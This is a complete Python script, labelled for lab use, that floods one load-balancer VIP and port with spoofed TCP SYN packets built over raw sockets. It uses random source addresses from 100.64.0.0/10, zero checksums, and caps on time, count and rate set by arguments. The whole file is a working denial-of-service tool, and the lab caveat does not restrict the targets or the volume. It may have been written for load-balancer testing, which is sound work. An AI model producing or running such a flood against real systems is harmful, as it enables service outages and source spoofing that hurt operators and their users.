# A bounded flood of spoofed TCP SYNs to one VIP and port, for the lab only: sources from
# 100.64.0.0/10 and random ports (millions of 5-tuples, each sent once and never followed
# by an ACK), at most LIMIT frames, for at most SECONDS, paced at RATE frames a second.
# The TCP checksum is left zero: the balancer never reads it, and the backends the frames
# are forwarded to drop them instead of answering SYN-ACKs to nobody.
#
#   python3 syn_flood.py VIP PORT SECONDS LIMIT RATE SEED   (prints the frames sent)
import random
import socket
import struct
import sys
import time

vip, port = sys.argv[1], int(sys.argv[2])
seconds, limit, rate, seed = float(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])
rnd = random.Random(seed)
dst = socket.inet_aton(vip)
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
start = time.monotonic()
while sent < limit and time.monotonic() - start < seconds:
    for _ in range(64):
        src = struct.pack("!I", 0x64400000 | rnd.getrandbits(22))
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, src, dst)
        tcp = struct.pack(
            "!HHIIBBHHH", rnd.randrange(1024, 65536), port, rnd.getrandbits(32), 0, 0x50, 0x02, 64240, 0, 0
        )
        sock.sendto(ip + tcp, (vip, 0))
        sent += 1
    ahead = sent / rate - (time.monotonic() - start)
    if ahead > 0:
        time.sleep(ahead)
print(sent)
